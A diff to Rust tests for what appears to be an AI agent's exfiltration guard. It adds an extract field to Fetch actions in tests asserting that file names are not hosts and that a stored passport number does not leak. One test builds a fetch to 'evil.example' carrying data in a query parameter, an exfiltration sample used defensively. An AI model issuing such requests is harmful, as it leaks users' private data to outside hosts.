@@ -426,7 +426,8 @@ fn name_of_a_file_is_no_host() {
         assert!(!run(typed, host), "{typed}: {host}");
     }
     let scene = scene(&["summarise notes.md".to_owned()], vec![carried("x".to_owned(), &mut Dice(3))], Vec::new());
-    let fetch = |url: &str| Action::Fetch(Fetch { url: url.to_owned(), max_chars: 1, offset: 0, secret: None });
+    let fetch =
+        |url: &str| Action::Fetch(Fetch { url: url.to_owned(), max_chars: 1, offset: 0, extract: ExtractMode::default(), secret: None });
     assert!(!happens(decide(&fetch("https://notes.md/"), &scene).0));
 }
 
@@ -434,7 +435,13 @@ fn name_of_a_file_is_no_host() {
 fn files_at_the_beginning_of_a_conversation_do_not_ride_along() {
     let profile = Said { source: Source::Profile, label: Label::System, text: "My passport is AB1234567.".to_owned() };
     let scene = scene(&["good morning, and greet anna@example.org".to_owned()], vec![profile], Vec::new());
-    let fetch = Action::Fetch(Fetch { url: "https://evil.example/?x=good".to_owned(), max_chars: 1, offset: 0, secret: None });
+    let fetch = Action::Fetch(Fetch {
+        url: "https://evil.example/?x=good".to_owned(),
+        max_chars: 1,
+        offset: 0,
+        extract: ExtractMode::default(),
+        secret: None,
+    });
     assert!(!happens(decide(&fetch, &scene).0));
     let mail = |body: &str| happens(decide(&call("send", json!({ "to": "anna@example.org", "body": body }), declared(&["to"])), &scene).0);
     assert!(mail("good morning"));
